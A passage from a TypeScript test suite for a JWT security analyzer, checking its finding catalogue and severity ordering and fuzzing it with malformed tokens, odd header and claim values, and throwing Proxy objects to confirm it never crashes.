      for (const field of ['title', 'why', 'fix', 'reference'] as const) expect(entry[field], `${id}.${field}`).toMatch(/\S{3}/);
    }
  });

  it('uses the agreed severities for the key ids', () => {
    expect(FINDING_CATALOGUE['alg-none'].severity).toBe('critical');
    expect(FINDING_CATALOGUE['weak-hmac-secret'].severity).toBe('critical');
    for (const id of ['signature-invalid', 'embedded-key-header', 'remote-key-header', 'kid-injection', 'empty-signature'] as const) {
      expect(FINDING_CATALOGUE[id].severity, id).toBe('high');
    }
  });

  it('lists ids most severe first', () => {
    const ranks = FINDING_IDS.map((id) => ['critical', 'high', 'medium', 'low', 'info'].indexOf(FINDING_CATALOGUE[id].severity));
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
  });

  it('builds a finding with the evidence first', () => {
    const built = finding('weak-hmac-secret', 'The secret is "secret".');
    expect(built).toMatchObject({ id: 'weak-hmac-secret', severity: 'critical', evidence: 'The secret is "secret".' });
    expect(built.detail.startsWith('The secret is "secret". ')).toBe(true);
    expect(built.detail).toContain(FINDING_CATALOGUE['weak-hmac-secret'].fix);
    expect(finding('expired').evidence).toBeUndefined();
    expect(finding('expired', '   ').detail).toBe(`${FINDING_CATALOGUE.expired.why} ${FINDING_CATALOGUE.expired.fix}`);
  });

  it('sorts any findings, stably by catalogue order', () => {
    const sorted = sortFindings([finding('expires-soon'), finding('expired'), finding('alg-none'), finding('web-storage')]);
    expect(ids(sorted)).toEqual(['alg-none', 'web-storage', 'expired', 'expires-soon']);
  });

  it('cannot be changed by a consumer', () => {
    expect(Object.isFrozen(FINDING_CATALOGUE)).toBe(true);
    expect(Object.isFrozen(FINDING_CATALOGUE['alg-none'])).toBe(true);
  });
});

describe('analyze never throws', () => {
  const where = fc.constantFrom(...WHERES);
  const url = fc.oneof(fc.webUrl(), fc.string(), fc.constantFrom('http://localhost/', 'http://[::1', 'ws://x', ''));
  const sighting = fc.oneof(
    fc.record(
      {
        where: fc.oneof(where, fc.string()),
        url: fc.oneof(url, fc.anything()),
        name: fc.oneof(fc.string(), fc.anything()),
        cookie: fc.oneof(
          fc.record(
            { httpOnly: fc.anything(), secure: fc.anything(), sameSite: fc.oneof(fc.constantFrom('strict', 'lax', 'none'), fc.anything()) },
            { requiredKeys: [] },
          ),
          fc.anything(),
        ),
      },
      { requiredKeys: [] },
    ),
    fc.anything(),
  );
  const claimValue = fc.oneof(fc.integer(), fc.double(), fc.string(), fc.constant(null), fc.anything());
  const claims = fc.dictionary(
    fc.oneof(fc.constantFrom('exp', 'nbf', 'iat', 'password', 'typ', 'token_use', 'scope', 'nonce', 'cnf', '__proto__'), fc.string()),
    claimValue,
  );
  const header = fc.dictionary(
    fc.oneof(fc.constantFrom('alg', 'kid', 'jku', 'x5u', 'jwk', 'x5c', 'typ', '__proto__'), fc.string()),
    fc.oneof(fc.constantFrom('none', 'HS256', 'NoNe'), fc.string(), fc.anything()),
  );
  const decodedShape = fc.record(
    {
      ok: fc.oneof(fc.constant(true), fc.boolean(), fc.anything()),
      kind: fc.oneof(fc.constantFrom('jws', 'jwe', 'unsecured'), fc.anything()),
      raw: fc.oneof(fc.string(), fc.anything()),
      parts: fc.oneof(fc.array(fc.string(), { maxLength: 6 }), fc.anything()),
      header: fc.oneof(header, fc.anything()),
      payload: fc.oneof(claims, fc.string(), fc.anything()),
      payloadIsJson: fc.anything(),
      signatureLength: fc.oneof(fc.nat(), fc.anything()),
    },
    { requiredKeys: [] },
  );
  const context = fc.oneof(
    fc.record(
      {
        now: fc.oneof(fc.integer(), fc.double(), fc.anything()),
        skewSeconds: fc.oneof(fc.integer(), fc.double(), fc.anything()),
        sightings: fc.oneof(fc.array(sighting, { maxLength: 8 }), fc.anything()),
      },
      { requiredKeys: [] },
    ),
    fc.constant(undefined),
    fc.anything(),
  );

  it('on arbitrary DecodedToken-shaped objects and contexts', () => {
    fc.assert(
      fc.property(decodedShape, context, (token, ctx) => {
        const findings = analyze(token as unknown as DecodedToken, ctx as AnalysisContext);
        expect(Array.isArray(findings)).toBe(true);
        for (const f of findings) {
          expect(FINDING_CATALOGUE[f.id]).toBeDefined();
          expect(typeof f.detail).toBe('string');
        }
        expect(new Set(ids(findings)).size).toBe(findings.length);
        expect(['access', 'refresh', 'id', 'unknown']).toContain(guessTokenRole(token as unknown as DecodedToken));
      }),
      { numRuns: 500 },
    );
  });

  it('on tokens decoded from arbitrary headers and claims', () => {
    fc.assert(
      fc.property(header, claims, fc.array(sighting, { maxLength: 5 }), (h, c, sightings) => {
        const token = handMade({ ...h, alg: typeof h.alg === 'string' ? h.alg : 'HS256' }, c, 'c2ln');
        const findings = analyze(token, { now: NOW, sightings: sightings as Sighting[] });
        expect(Array.isArray(findings)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('on objects whose getters throw', () => {
    const hostile = new Proxy(
      {},
      {
        get: () => {
          throw new Error('boom');
        },
        has: () => {
          throw new Error('boom');
        },
        ownKeys: () => {
          throw new Error('boom');
        },
      },
    );
    const token = { ok: true, kind: 'jws', raw: '', parts: ['', '', ''], header: hostile, payload: hostile } as unknown as DecodedToken;
    expect(() => analyze(token, { now: NOW, sightings: [hostile as Sighting] })).not.toThrow();
    expect(() => analyze(hostile as DecodedToken, hostile as AnalysisContext)).not.toThrow();
    expect(() => guessTokenRole(hostile as DecodedToken)).not.toThrow();
  });
});
